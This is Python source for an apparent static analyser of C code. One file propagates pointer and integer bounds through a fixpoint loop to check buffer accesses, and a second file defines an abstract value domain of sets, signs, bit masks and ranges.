                if n.get("k") == "decl" and (n.get("var") or {}).get("id") == k[1]:
                    return n["var"].get("n")
            return "v%s" % k[1]
        if k[0] == "f":
            return k[1]
        if k[0] == "A":
            e_ = k[2]
            if e_[1] is None:
                return "(bytes the caller guarantees at %s: nothing proven)" % self._kname(("v", k[1]))
            return "(%s - %s)" % (self._kname(("v", e_[1])) if e_[0] == "v" else "len:" + self._kname(("v", e_[1])),
                                  self._kname(("v", k[1])))
        return str(k)

    def _nname(self, n):
        if n[0] is None:
            return str(n[1])
        return "%s%s" % (self._kname(n[0]), ("%+d" % n[1]) if n[1] else "")

    # ------------------------------------------------------------------ transfer
    def assign_int(self, z, key, rhs):
        i = self.keys[key]
        # v = E1 - E2 where some A(p, end) is known to equal the same expression
        if rhs is not None:
            txt = cu.ftext(rhs)
            for ak, t_ in getattr(self, "symexpr", {}).items():
                if t_ == txt and ak in self.keys:
                    z.assign_var(i, self.keys[ak], 0)
                    self.evens.pop(key, None)
                    self._clamp(z, key)
                    return
        self.ghosts = {a: g for a, g in self.ghosts.items() if g[1][0] != key}
        l = self.lin(rhs) if rhs is not None else None
        pr = self._par_of(l)
        if pr is None:
            self.evens.pop(key, None)
        else:
            self.evens[key] = pr
        if l is not None:
            if l[0] is None:
                z.assign_const(i, l[1])
            elif l[0] == key:
                z.shift(i, l[1])
            else:
                z.assign_var(i, self.keys[l[0]], l[1])
        else:
            z.forget(i)
            r0 = strip(rhs) if rhs is not None else None
            lo, hi = self._range(r0)
            if lo is not None:
                z.add(0, i, -lo)
            if hi is not None:
                z.add(i, 0, hi)
        self._clamp(z, key)

    def _clamp(self, z, key):
        t = self.types.get(key) or ""
        i = self.keys[key]
        if is_unsigned(t):
            # wrap-around: if the value may be negative the relation is lost
            if z.lower(i) < 0:
                z.forget(i)
                z.add(0, i, 0)
            if ("char" in t or "uint8" in t):
                if z.upper(i) > 255:
                    z.forget(i)
                    z.add(0, i, 0)
                    z.add(i, 0, 255)
            elif ("short" in t or "16" in t or "psSize_t" in t):
                if z.upper(i) > 65535:
                    z.forget(i)
                    z.add(0, i, 0)
                    z.add(i, 0, 65535)

    def _range(self, e):
        """cheap value range of an integer expression: (lo, hi) with None = unknown"""
        if e is None:
            return (None, None)
        k = e.get("k")
        t = e.get("t", "")
        if k == "int":
            return (e["v"], e["v"])
        if k == "un" and e["op"] == "*":
            if "char" in t or "uint8" in t:
                return (0, 255)
        if k == "idx" and ("char" in t or "uint8" in t) and "unsigned" in t or (k == "idx" and "uint8" in t):
            return (0, 255)
        if k == "cast":
            return self._range(strip(e["e"]))
        if k == "bin" and e["op"] in ("<<", "+", "|", "*"):
            a, b = self._range(strip(e["l"])), self._range(strip(e["r"]))
            if None in a or None in b or a[0] < 0 or b[0] < 0:
                if is_unsigned(t):
                    return (0, None)
                return (None, None)
            if e["op"] == "<<":
                return (a[0] << b[0], a[1] << b[1]) if b[1] < 32 else (0, None)
            if e["op"] == "+":
                return (a[0] + b[0], a[1] + b[1])
            if e["op"] == "|":
                return (0, (1 << max(a[1].bit_length(), b[1].bit_length())) - 1)
            if e["op"] == "*":
                return (a[0] * b[0], a[1] * b[1])
        if k == "bin" and e["op"] == "&":
            b = self._range(strip(e["r"]))
            if b[1] is not None and b[0] is not None and b[0] >= 0:
                return (0, b[1])
            a = self._range(strip(e["l"]))
            if a[1] is not None and a[0] is not None and a[0] >= 0:
                return (0, a[1])
        if k == "bin" and e["op"] == ">>":
            a = self._range(strip(e["l"]))
            if a[0] is not None and a[0] >= 0:
                return (0, a[1])
        l = self.lin(e)
        if l is not None and l[0] is None:
            return (l[1], l[1])
        if is_unsigned(t):
            return (0, 65535 if ("short" in t or "16" in t) else (255 if "char" in t else None))
        return (None, None)

    def process(self, z, e):
        """evaluate expression e for its checks and side effects on zone z"""
        e0 = e
        e = strip(e)
        if e is None or z.bottom:
            return
        if "pe" in e and e.get("k") in ("bin", "cond"):
            return          # value computed in earlier blocks (short-circuit / conditional operator)
        k = e.get("k")
        if k == "bin" and e["op"] in ASSIGN_OPS:
            self.process(z, e["r"])
            l = strip(e["l"])
            self._lvalue_effects(z, l)
            self._store(z, l, e)
            return
        if k == "un" and e["op"] in ("++", "--", "post++", "post--"):
            t = strip(e["e"])
            self._lvalue_effects(z, t)
            d = 1 if "++" in e["op"] else -1
            if t is not None and t.get("k") == "var" and "id" in t:
                if t["id"] in self.ptrs:
                    self.shift_cursor(z, t["id"], (None, d))
                elif ("v", t["id"]) in self.keys:
                    z.shift(self.keys[("v", t["id"])], d)
                    self._par_shift(("v", t["id"]), (None, 1))
                    self._clamp(z, ("v", t["id"]))
            elif t is not None and t.get("k") == "mem" and ("f", pp(t)) in self.keys:
                z.shift(self.keys[("f", pp(t))], d)
                self._clamp(z, ("f", pp(t)))
            return
        if k == "un" and e["op"] == "*":
            self._deref(z, e["e"], (None, 1), e.get("ln"), "*%s" % pp(strip(e["e"]))[:30])
            self.process(z, e["e"])
            return
        if k == "idx":
            b = strip(e["b"])
            cid = self.pbase(b) if b is not None else None
            if cid is not None and cid in self.ends:
                base = self.poff(b)
                i = self.lin(e["i"])
                if base is not None and i is not None and (base[0] is None or i[0] is None):
                    off = (base[0] if base[0] is not None else i[0], base[1] + i[1] + 1)
                    self.need(z, cid, off, self._ln, "%s[%s]" % (pp(b)[:20], pp(strip(e["i"]))[:20]))
                else:
                    self.need(z, cid, (("?",), 0) if False else (None, INF), self._ln, "%s[%s]" % (pp(b)[:20], pp(strip(e["i"]))[:20]))
            self.process(z, e["b"])
            self.process(z, e["i"])
            return
        if k == "call":
            for a in e.get("a", []):
                self.process(z, a)
            self._call(z, e)
            return
        if k == "decl":
            v = e.get("var") or {}
            if "init" in e:
                self.process(z, e["init"])
                if v.get("id") in self.ptrs:
                    self._assign_ptr(z, v["id"], e["init"])
                elif ("v", v.get("id")) in self.keys:
                    self.assign_int(z, ("v", v["id"]), e["init"])
            else:
                if ("v", v.get("id")) in self.keys:
                    z.forget(self.keys[("v", v["id"])])
                    self._clamp_type(z, ("v", v["id"]))
            return
        if k == "cond":
            self.process(z, e.get("c"))
            self.process(z, e.get("a"))
            self.process(z, e.get("b"))
            return
        if k == "ret":
            if e.get("e") is not None:
                self.process(z, e["e"])
            return
        for ch in self._children(e):
            self.process(z, ch)

    def _clamp_type(self, z, key):
        t = self.types.get(key) or ""
        i = self.keys[key]
        if is_unsigned(t):
            z.add(0, i, 0)
            if "char" in t or "uint8" in t:
                z.add(i, 0, 255)
            elif "short" in t or "16" in t or "psSize_t" in t:
                z.add(i, 0, 65535)

    def _children(self, e):
        out = []
        for kk in ("l", "r", "e", "b", "i", "c", "a", "init"):
            v = e.get(kk)
            if isinstance(v, dict):
                out.append(v)
            elif isinstance(v, list):
                out.extend(x for x in v if isinstance(x, dict))
        return out

    def _deref(self, z, pexpr, nbytes, ln, what):
        p = strip(pexpr)
        # *c++ / *(c++) : the access uses the value before the increment
        if p is not None and p.get("k") == "un" and p["op"] in ("post++", "post--"):
            p = strip(p["e"])
        elif p is not None and p.get("k") == "un" and p["op"] in ("++", "--"):
            q = strip(p["e"])
            cid = self.pbase(q)
            if cid is not None and cid in self.ends:
                self.need(z, cid, (None, nbytes[1] + (1 if p["op"] == "++" else -1)), self._ln, what)
            return
        cid = self.pbase(p) if p is not None else None
        if cid is None or cid not in self.ends:
            return
        off = self.poff(p)
        if off is None:
            self.need(z, cid, (None, INF), self._ln, what)
            return
        if off[0] is None:
            self.need(z, cid, (nbytes[0], off[1] + nbytes[1]), self._ln, what)
        elif nbytes[0] is None:
            self.need(z, cid, (off[0], off[1] + nbytes[1]), self._ln, what)
        else:
            self.need(z, cid, (None, INF), self._ln, what)

    def _lvalue_effects(self, z, l):
        """checks for the address computation of an lvalue (e.g. *c++ = x, c[i] = x)"""
        if l is None:
            return
        if l.get("k") == "un" and l["op"] == "*":
            self._deref(z, l["e"], (None, 1), None, "*%s (store)" % pp(strip(l["e"]))[:30])
            inner = strip(l["e"])
            if inner is not None and inner.get("k") == "un":
                self.process(z, inner)
        elif l.get("k") == "idx":
            self.process(z, l)
        elif l.get("k") == "mem":
            self.process(z, l["b"])

    def _store(self, z, l, node):
        op = node["op"]
        if l is None:
            return
        if l.get("k") == "var" and "id" in l:
            vid = l["id"]
            if vid in self.ptrs:
                if op == "=":
                    self._assign_ptr(z, vid, node["r"])
                elif op in ("+=", "-="):
                    off = self.lin(node["r"])
                    if off is None:
                        self.forget_cursor(z, vid)
                    else:
                        if op == "-=":
                            if off[0] is not None:
                                self.forget_cursor(z, vid)
                                return
                            off = (None, -off[1])
                        self.shift_cursor(z, vid, off)
                else:
                    self.forget_cursor(z, vid)
                return
            key = ("v", vid)
            if key in self.keys:
                self._int_update(z, key, op, node)
            return
        if l.get("k") == "mem" and ("t", pp(l)) in self.ptrs:
            self.forget_cursor(z, ("t", pp(l)))
            return
        if l.get("k") == "mem":
            key = ("f", pp(l))
            if key in self.keys:
                self._int_update(z, key, op, node)
            # a store to a struct field kills field-variables whose text extends it
            txt = pp(l)
            for k2 in list(self.keys):
                if k2 is not None and k2[0] == "f" and k2 != key and k2[1].startswith(txt) \
                        and k2[1][len(txt):len(txt) + 1] in (".", "-", "["):
                    z.forget(self.keys[k2])
            return
        if l.get("k") == "un" and l["op"] == "*":
            # *cp = c : no numeric effect;  *lenp = x : unknown target
            return

    def _int_update(self, z, key, op, node):
        i = self.keys[key]
        if op == "=":
            self.assign_int(z, key, node["r"])
            return
        d = self.lin(node["r"])
        if op in ("+=", "-=") and d is not None:
            self._par_shift(key, d)
        else:
            self.evens.pop(key, None)
        if op in ("+=", "-=") and d is not None:
            sgn = 1 if op == "+=" else -1
            if d[0] is None:
                z.shift(i, sgn * d[1])
                self._clamp(z, key)
                return
            # v -= w : keep bounds only
            j = self.keys[d[0]]
            carry = []
            if sgn == -1:
                # lockstep idiom: c += w (+c0) ... len -= w + k  keeps  A >= len + const
                for ak, (gk, off) in self.ghosts.items():
                    if off[0] == d[0] and ak in self.keys:
                        du = z.diff_upper(i, self.keys[gk])        # len_old - G <= du
                        if du != INF:
                            carry.append((ak, du - d[1] + off[1]))
            if sgn == -1:
                lo = -z.diff_upper(j, i) - d[1]
                hi = z.diff_upper(i, j) - d[1]
            else:
                lo = z.lower(i) + z.lower(j) + d[1]
                hi = z.upper(i) + z.upper(j) + d[1]
            z.forget(i)
            if lo != -INF:
                z.add(0, i, -lo)
            if hi != INF:
                z.add(i, 0, hi)
            self._clamp(z, key)
            if not (is_unsigned(self.types.get(key)) and lo < 0):
                for (ak, c_) in carry:
                    z.add(i, self.keys[ak], c_)
            return
        z.forget(i)
        self._clamp_type(z, key)

    def _assign_ptr(self, z, vid, rhs):
        r = strip(rhs)
        src = self.pbase(r) if r is not None else None
        self.symexpr = {k: v for k, v in getattr(self, "symexpr", {}).items() if k[1] != vid and k[2] != ("v", vid)}
        if src is not None and src != vid and r.get("k") == "bin" and r["op"] == "+" and self.poff(r["l"]) == (None, 0):
            e1 = cu.ftext(r["r"])
            for p_, (s_, k_) in list(getattr(self, "eqs", {}).items()):
                if s_ == src and p_ != vid and isinstance(k_, tuple):
                    ak2 = self.akey(p_, ("v", vid))
                    if ak2 in self.keys:
                        self._pending_sym = (ak2, "(%s - %s)" % (e1, k_[1]))
        # must-alias facts (within a block): vid == src + off
        self.eqs = {k: v for k, v in getattr(self, "eqs", {}).items() if k != vid and v[0] != vid}
        if src is not None and src != vid:
            o_ = self.poff(r)
            if o_ is not None and o_[0] is None:
                self.eqs[vid] = (src, o_[1])
            elif r.get("k") == "bin" and r["op"] == "+" and self.pbase(r["l"]) == src and self.poff(r["l"]) == (None, 0):
                self.eqs[vid] = (src, ("sym", cu.ftext(r["r"])))
        if src is not None and src in self.ptrs and src != vid:
            off = self.poff(r)
            # this pointer becomes an END of src:  end = src + n   =>  A(src, vid) = n
            ak_end = self.akey(src, ("v", vid))
            copied = False
            if ak_end in self.keys and off is not None:
                # first forget everything about vid
                self.forget_cursor(z, vid)
                i = self.keys[ak_end]
                if off[0] is None:
                    z.assign_const(i, off[1])
                else:
                    z.assign_var(i, self.keys[off[0]], off[1])
                pr = self._par_of(off)
                if pr is None:
                    self.evens.pop(ak_end, None)
                else:
                    self.evens[ak_end] = pr
                copied = True
                # other cursors known to equal src + k get the same end:  A(p, vid) = off - k
                for p_, (s_, k_) in list(self.eqs.items()):
                    if s_ == src and p_ != vid and not isinstance(k_, tuple):
                        ak2 = self.akey(p_, ("v", vid))
                        if ak2 in self.keys:
                            i2 = self.keys[ak2]
                            if off[0] is None:
                                z.assign_const(i2, off[1] - k_)
                            else:
                                z.assign_var(i2, self.keys[off[0]], off[1] - k_)
            if not copied:
                self.forget_cursor(z, vid)
            # vid as a cursor sharing src's ends:  A(vid, e) = A(src, e) - off
            if off is not None:
                for e_ in self.ends.get(vid, ()):
                    if e_ == ("v", src):
                        continue
                    sk = self.akey(src, e_)
                    if sk in self.keys:
                        i = self.keys[self.akey(vid, e_)]
                        if off[0] is None:
                            z.assign_var(i, self.keys[sk], -off[1])
                        else:
                            j = self.keys[off[0]]
                            s = self.keys[sk]
                            lo = -z.diff_upper(j, s) - off[1]
                            z.forget(i)
                            if lo != -INF:
                                z.add(0, i, -lo)
                # and pairs where src is the end of vid ... (vid = end - n) not modelled
            ps_ = getattr(self, "_pending_sym", None)
            if ps_ is not None:
                self._pending_sym = None
                z.forget(self.keys[ps_[0]])
                self.symexpr[ps_[0]] = ps_[1]
            return
        self.forget_cursor(z, vid)

    def _call(self, z, e):
        name = e.get("fn")
        args = e.get("a", [])
        if name in MEMFNS:
            for (pi, li, mode) in MEMFNS[name]:
                if pi < len(args) and li < len(args):
                    p = strip(args[pi])
                    cid = self.pbase(p) if p is not None else None
                    if cid is not None and cid in self.ends:
                        n = self.lin(args[li])
                        off = self.poff(p)
                        what = "%s(%s, %s)" % (name.replace("__builtin___", "").replace("_chk", ""), pp(p)[:24], pp(strip(args[li]))[:24])
                        if n is None or off is None:
                            self.need(z, cid, (None, INF), self._ln, what)
                        elif off[0] is None:
                            self.need(z, cid, (n[0], n[1] + off[1]), self._ln, what)
                        elif n[0] is None:
                            self.need(z, cid, (off[0], n[1] + off[1]), self._ln, what)
                        else:
                            self.need(z, cid, (None, INF), self._ln, what)
            return
        targets = []
        if name is not None:
            t = self.prog.resolve_call(self.fn, name)
            if t is not None:
                targets = [t]
        # what the call site proves about (pointer, length) argument pairs
        for t in targets:
            proved = {}
            wire = {}
            for i, a in enumerate(args):
                p = strip(a)
                cid = self.pbase(p) if p is not None else None
                if cid is None or cid not in self.ends or i >= len(t.params) or not is_byte_ptr(t.params[i].get("t")):
                    continue
                off = self.poff(p)
                for j, b in enumerate(args):
                    if j == i or j >= len(t.params) or not is_int_type(t.params[j].get("t")):
                        continue
                    n = self.lin(b)
                    if n is None or off is None:
                        continue
                    ok = False
                    for ak in self.avail_keys(cid):
                        ii = self.keys[ak]
                        if off[0] is None:
                            if n[0] is None:
                                ok = ok or z.lower(ii) >= n[1] + off[1]
                            else:
                                ok = ok or z.diff_upper(self.keys[n[0]], ii) + n[1] + off[1] <= 0
                    proved[(i, j)] = ok
                    # is the cursor a wire cursor: bounded by an end pointer that is a parameter of this function
                    pids = set(p_.get("id") for p_ in self.fn.params)
                    wire[(i, j)] = any(e_[0] == "v" and (e_[1] in pids or (isinstance(e_[1], tuple) and e_[1][-1] in pids))
                                       for e_ in self.ends.get(cid, ()))
            self.call_facts.append((t.qname, proved, self._ln))
            self.call_wire.append((t.qname, wire, self._ln))
            # (cursor, end) argument pairs: constant lower bound of A and the integer arguments it covers
            ends_proved = {}
            for i, a in enumerate(args):
                p = strip(a)
                if p is not None and p.get("k") == "un" and p["op"] == "&":
                    p = strip(p["e"])
                    deref = True
                else:
                    deref = False
                cid = self.pbase(p) if p is not None else None
                if cid is None or cid not in self.ends or i >= len(t.params):
                    continue
                if deref and self.poff(p) != (None, 0):
                    continue
                pt = (t.params[i].get("t") or "").replace(" ", "")
                if deref != pt.endswith("char**"):
                    continue
                off = self.poff(p) if not deref else (None, 0)
                if off is None or off[0] is not None:
                    continue
                for j, b in enumerate(args):
                    q = strip(b)
                    eid = self.pbase(q) if q is not None else None
                    if j == i or eid is None or j >= len(t.params) or not is_byte_ptr(t.params[j].get("t")):
                        continue
                    if self.poff(q) != (None, 0):
                        continue
                    ak = self.akey(cid, ("v", eid))
                    if ak not in self.keys:
                        continue
                    ii = self.keys[ak]
                    L = z.lower(ii) - off[1]
                    ks = set()
                    for k_, c_ in enumerate(args):
                        if k_ in (i, j) or k_ >= len(t.params) or not is_int_type(t.params[k_].get("t")):
                            continue
                        n = self.lin(c_)
                        if n is None:
                            continue
                        if n[0] is None:
                            if z.lower(ii) - off[1] >= n[1]:
                                ks.add(k_)
                        elif z.diff_upper(self.keys[n[0]], ii) + n[1] + off[1] <= 0:
                            ks.add(k_)
                    ends_proved[(i, j)] = (L, frozenset(ks))
            self.call_ends.append((t.qname, ends_proved, self._ln))
            tr_ = set()
            for i, a in enumerate(args):
                p = strip(a)
                if p is not None and p.get("k") == "un" and p["op"] == "&":
                    p = strip(p["e"])
                cid = self.pbase(p) if p is not None else None
                if cid is not None and cid in self.ends and i < len(t.params) and \
                        (is_byte_ptr(t.params[i].get("t")) or (t.params[i].get("t") or "").replace(" ", "").endswith("char**")):
                    tr_.add(i)
            self.call_tracked.append((t.qname, tr_))
            # obligations for callees that rely on an assumed pair
            for (i, j) in self.callee_pairs.get(t.qname, ()):
                if not proved.get((i, j), False) and i < len(args):
                    p = strip(args[i])
                    cid = self.pbase(p) if p is not None else None
                    if cid is not None and cid in self.ends:
                        self.need(z, cid, (None, INF), self._ln, "%s(.. %s, %s ..) length not covered" % (name, pp(p)[:20], pp(strip(args[j]))[:20]))
        # side effects: &var arguments, fields the callee may write
        for a in args:
            p = strip(a)
            if p is not None and p.get("k") == "un" and p["op"] == "&":
                v = strip(p["e"])
                if v is not None and v.get("k") == "var" and "id" in v:
                    if v["id"] in self.ptrs:
                        self.forget_cursor(z, v["id"])
                    elif ("v", v["id"]) in self.keys:
                        z.forget(self.keys[("v", v["id"])])
                        self._clamp_type(z, ("v", v["id"]))
                elif v is not None and v.get("k") == "mem" and ("f", pp(v)) in self.keys:
                    z.forget(self.keys[("f", pp(v))])
        if name is None or targets:
            tq = [t.qname for t in targets]
            for k2, i2 in self.keys.items():
                if k2 is not None and k2[0] == "f":
                    # field variable: killed if a callee may write a field of that name
                    fname = k2[1].split("->")[-1].split(".")[-1]
                    kill = name is None
                    for q in tq:
                        for w in self.cg.writes.get(q, ()):
                            if w[0] == "F" and (w[2] == fname or w[2] == "*"):
                                kill = True
                                break
                    if kill:
                        z.forget(i2)
                        self._clamp_type(z, k2)

    # ------------------------------------------------------------------ fixpoint
    def run(self):
        fn = self.fn
        if fn.entry is None:
            return self
        IN = {fn.entry: self.entry_state()}
        EV = {fn.entry: frozenset()}
        # widening points: targets of back edges (DFS)
        heads = set()
        color = {}
        stack_ = [(fn.entry, iter(cu.succs(fn, fn.entry)))]
        color[fn.entry] = 1
        while stack_:
            node, it = stack_[-1]
            adv = False
            for s_ in it:
                if color.get(s_) == 1:
                    heads.add(s_)
                elif s_ not in color:
                    color[s_] = 1
                    stack_.append((s_, iter(cu.succs(fn, s_))))
                    adv = True
                    break
            if not adv:
                color[node] = 2
                stack_.pop()
        self._new_evens = {}
        visits = {}
        work = [fn.entry]
        order = {b["id"]: i for i, b in enumerate(fn.blocks)}
        self._ln = fn.line
        while work:
            work.sort(key=lambda x: -order.get(x, 0))
            bid = work.pop()
            z = IN[bid].copy()
            self.evens = dict(EV.get(bid, ()))
            self.ghosts = {}
            self.eqs = {}
            self.symexpr = {}
            self._pending_sym = None
            b = fn.bmap[bid]
            save = self.obligations
            self.obligations = []
            for el in b["el"]:
                self._ln = el["ln"]
                self.process(z, el["x"])
            t = b.get("term")
            if t is not None and "c" in t:
                self._ln = t["ln"]
                self.process(z, t["c"])
            self.obligations = save
            for k, sc in enumerate(b["succ"]):
                s = sc.get("b")
                if s is None:
                    continue
                zz = z.copy()
                ev_out = dict(self.evens)
                if t is not None and "c" in t and len(b["succ"]) == 2 and not zz.bottom:
                    self._new_evens = {}
                    cons = self.constraints(t["c"], k == 0, zz)
                    saved = self.evens
                    ev_out.update(self._new_evens)
                    self.evens = ev_out
                    self.apply(zz, cons)
                    self.evens = saved
                elif t is not None and t.get("k") == "switch" and "c" in t and "case" in sc and not zz.bottom:
                    l = self.lin(t["c"])
                    if l is not None and l[0] is not None and isinstance(sc["case"], int):
                        i = self.keys[l[0]]
                        zz.add(i, 0, sc["case"] - l[1])
                        zz.add(0, i, -(sc["case"] - l[1]))
                if zz.bottom:
                    continue
                if s not in IN:
                    IN[s] = zz
                    EV[s] = frozenset(ev_out.items())
                    work.append(s)
                else:
                    old = IN[s]
                    j = old.join(zz)
                    visits[s] = visits.get(s, 0) + 1
                    if visits[s] > 3 and (s in heads or visits[s] > 40):
                        j = old.widen(j)
                    nev = EV[s] & frozenset(ev_out.items())
                    if not j.leq(old) or nev != EV[s]:
                        IN[s] = j
                        EV[s] = nev
                        if s not in work:
                            work.append(s)
        # final pass: record obligations with the stable states
        self.obligations = []
        self.call_facts = []
        self.call_wire = []
        self.call_ends = []
        self.call_tracked = []
        for b in fn.blocks:
            if b["id"] not in IN:
                continue
            z = IN[b["id"]].copy()
            self.evens = dict(EV.get(b["id"], ()))
            self.ghosts = {}
            self.eqs = {}
            self.symexpr = {}
            self._pending_sym = None
            self.bump_evens(z)
            for el in b["el"]:
                self._ln = el["ln"]
                self.process(z, el["x"])
            t = b.get("term")
            if t is not None and "c" in t:
                self._ln = t["ln"]
                self.process(z, t["c"])
        self.IN = IN
        return self
