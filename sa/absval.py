"""Small abstract value domain for property simulation.

A value is one of
  TOP                      (None)
  ("S", frozenset(ints))   exact finite set of integers (|S| <= CAP)
  ("G", frozenset(signs))  sign set, signs in {-1, 0, 1}
  ("B", mask, val)         bit vector with known bits `mask` having value `val`
  ("N", frozenset(ints))   any integer except the listed ones
  ("R", lo, hi)            integer range, lo/hi may be None (unbounded)
BOT is the string "BOT" (infeasible).
"""

TOP = None
BOT = "BOT"
CAP = 40
ALLS = frozenset((-1, 0, 1))


def S(*vals):
    return ("S", frozenset(vals))


def sign(v):
    return -1 if v < 0 else (1 if v > 0 else 0)


def norm(v):
    if v is TOP or v == BOT:
        return v
    if v[0] == "S":
        if not v[1]:
            return BOT
        if len(v[1]) > CAP:
            return norm(("G", frozenset(sign(x) for x in v[1])))
        return v
    if v[0] == "G":
        if not v[1]:
            return BOT
        if v[1] == ALLS:
            return TOP
        if v[1] == frozenset((0,)):
            return S(0)
        return v
    if v[0] == "B":
        if v[1] == 0:
            return TOP
        return v
    if v[0] == "N":
        if not v[1]:
            return TOP
        if len(v[1]) > CAP:
            return TOP
        return v
    if v[0] == "R":
        lo, hi = v[1], v[2]
        if lo is None and hi is None:
            return TOP
        if lo is not None and hi is not None:
            if lo > hi:
                return BOT
            if hi - lo < CAP:
                return ("S", frozenset(range(lo, hi + 1)))
        return v
    return v


def _range_of(v):
    """(lo, hi) hull of a value, None = unbounded."""
    if v is TOP:
        return (None, None)
    if v[0] == "S":
        return (min(v[1]), max(v[1]))
    if v[0] == "R":
        return (v[1], v[2])
    if v[0] == "G":
        lo = None if -1 in v[1] else (0 if 0 in v[1] else 1)
        hi = None if 1 in v[1] else (0 if 0 in v[1] else -1)
        return (lo, hi)
    if v[0] == "B":
        return (0, None)
    return (None, None)


def signs_of(v):
    if v is TOP:
        return ALLS
    if v[0] == "S":
        return frozenset(sign(x) for x in v[1])
    if v[0] == "G":
        return v[1]
    if v[0] == "B":
        # unsigned flag words: zero possible iff no known bit is 1
        if v[2] != 0:
            return frozenset((1, -1))
        return ALLS
    if v[0] == "N":
        if 0 in v[1]:
            return frozenset((1, -1))
        return ALLS
    if v[0] == "R":
        sg = set()
        lo, hi = v[1], v[2]
        if lo is None or lo < 0:
            sg.add(-1)
        if (lo is None or lo <= 0) and (hi is None or hi >= 0):
            sg.add(0)
        if hi is None or hi > 0:
            sg.add(1)
        return frozenset(sg)
    return ALLS


def join(a, b):
    if a == BOT:
        return b
    if b == BOT:
        return a
    if a is TOP or b is TOP:
        return TOP
    if a == b:
        return a
    if a[0] == "S" and b[0] == "S":
        return norm(("S", a[1] | b[1]))
    if a[0] == "R" or b[0] == "R":
        if "N" in (a[0], b[0]) or "B" in (a[0], b[0]):
            return TOP
        (l1, h1), (l2, h2) = _range_of(a), _range_of(b)
        lo = None if (l1 is None or l2 is None) else min(l1, l2)
        hi = None if (h1 is None or h2 is None) else max(h1, h2)
        return norm(("R", lo, hi))
    if a[0] == "N" or b[0] == "N":
        if a[0] == "N" and b[0] == "N":
            return norm(("N", a[1] & b[1]))
        nn, oo = (a, b) if a[0] == "N" else (b, a)
        return norm(("N", frozenset(x for x in nn[1] if not possible_value(oo, x))))
    if a[0] == "B" and b[0] == "B":
        m = a[1] & b[1] & ~(a[2] ^ b[2])
        return norm(("B", m, a[2] & m))
    if a[0] == "B" or b[0] == "B":
        # mix of bits and set: convert sets to bits when possible
        aa = to_bits(a)
        bb = to_bits(b)
        if aa is not None and bb is not None:
            return join(aa, bb)
        return TOP
    return norm(("G", signs_of(a) | signs_of(b)))


def to_bits(v):
    if v is TOP:
        return None
    if v[0] == "B":
        return v
    if v[0] == "S":
        vals = list(v[1])
        if any(x < 0 for x in vals):
            return None
        m = ~0
        base = vals[0]
        for x in vals[1:]:
            m &= ~(base ^ x)
        m &= (1 << 64) - 1
        return ("B", m, base & m)
    return None


def meet(a, b):
    if a == BOT or b == BOT:
        return BOT
    if a is TOP:
        return b
    if b is TOP:
        return a
    if a == b:
        return a
    if a[0] == "S" and b[0] == "S":
        return norm(("S", a[1] & b[1]))
    if a[0] == "S":
        return norm(("S", frozenset(x for x in a[1] if possible_value(b, x))))
    if b[0] == "S":
        return norm(("S", frozenset(x for x in b[1] if possible_value(a, x))))
    if a[0] == "R" or b[0] == "R":
        rr, oo = (a, b) if a[0] == "R" else (b, a)
        if oo[0] in ("R", "G"):
            (l1, h1), (l2, h2) = _range_of(rr), _range_of(oo)
            lo = l1 if l2 is None else (l2 if l1 is None else max(l1, l2))
            hi = h1 if h2 is None else (h2 if h1 is None else min(h1, h2))
            return norm(("R", lo, hi))
        return rr
    if a[0] == "N" and b[0] == "N":
        return norm(("N", a[1] | b[1]))
    if a[0] == "N" or b[0] == "N":
        nn, oo = (a, b) if a[0] == "N" else (b, a)
        if oo[0] == "G":
            sg = oo[1]
            if 0 in nn[1]:
                sg = sg - frozenset((0,))
            return norm(("G", sg))
        return oo
    if a[0] == "G" and b[0] == "G":
        return norm(("G", a[1] & b[1]))
    if a[0] == "B" and b[0] == "B":
        common = a[1] & b[1]
        if (a[2] ^ b[2]) & common:
            return BOT
        m = a[1] | b[1]
        return ("B", m, (a[2] | b[2]) & m)
    # B with G
    bb, gg = (a, b) if a[0] == "B" else (b, a)
    if bb[2] != 0 and not (gg[1] & frozenset((1, -1))):
        return BOT
    return bb


def possible_value(v, x):
    if v is TOP:
        return True
    if v[0] == "S":
        return x in v[1]
    if v[0] == "G":
        return sign(x) in v[1]
    if v[0] == "B":
        return (x & v[1]) == v[2]
    if v[0] == "N":
        return x not in v[1]
    if v[0] == "R":
        return (v[1] is None or x >= v[1]) and (v[2] is None or x <= v[2])
    return True


def is_const(v):
    if v is not TOP and v != BOT and v[0] == "S" and len(v[1]) == 1:
        return next(iter(v[1]))
    return None


def cmp_filter(v, op, c):
    """Refine value v under the assumption `v op c` (c an int). BOT if impossible."""
    if v == BOT:
        return BOT
    if op == "==":
        return meet(v, S(c))
    if v is not TOP and v[0] == "S":
        import operator
        f = {"!=": operator.ne, "<": operator.lt, "<=": operator.le,
             ">": operator.gt, ">=": operator.ge}[op]
        return norm(("S", frozenset(x for x in v[1] if f(x, c))))
    if v is not TOP and v[0] == "B":
        if op == "!=":
            if c == 0:
                return v  # non-zero: nothing to record bitwise (unless single unknown bit)
            return v
        if op in (">", ) and c == 0:
            return v
        if op in ("<=",) and c == 0:
            return meet(v, S(0)) if possible_value(v, 0) else BOT
        return v
    if op == "!=" and (v is TOP or v[0] == "N"):
        ex = frozenset((c,)) | (v[1] if v is not TOP else frozenset())
        return norm(("N", ex))
    if op in ("<", "<=", ">", ">=") and (v is TOP or v[0] in ("G", "R", "N")):
        lo, hi = _range_of(v) if (v is not TOP and v[0] != "N") else (None, None)
        if op == "<":
            hi = c - 1 if hi is None else min(hi, c - 1)
        elif op == "<=":
            hi = c if hi is None else min(hi, c)
        elif op == ">":
            lo = c + 1 if lo is None else max(lo, c + 1)
        else:
            lo = c if lo is None else max(lo, c)
        r = norm(("R", lo, hi))
        if r != BOT and r is not TOP and r[0] == "R" and v is not TOP and v[0] == "G" and 0 not in v[1] \
                and possible_value(r, 0):
            # keep the non-zero knowledge of the sign set when the range straddles zero
            if r[1] == 0:
                r = norm(("R", 1, r[2]))
            elif r[2] == 0:
                r = norm(("R", r[1], -1))
        if r != BOT and r is not TOP and r[0] == "S" and v is not TOP and v[0] == "N":
            r = norm(("S", frozenset(x for x in r[1] if x not in v[1])))
        return r
    if op == "!=" and v is not TOP and v[0] == "R":
        if v[1] == c:
            return norm(("R", c + 1, v[2]))
        if v[2] == c:
            return norm(("R", v[1], c - 1))
        return v
    sg = signs_of(v)
    if op == "!=":
        if c == 0:
            return norm(("G", sg - frozenset((0,))))
        return v if v is not TOP else TOP
    # ordering against constant c
    keep = set()
    for s_ in sg:
        # can a value with sign s_ satisfy (x op c)?
        if s_ == 0:
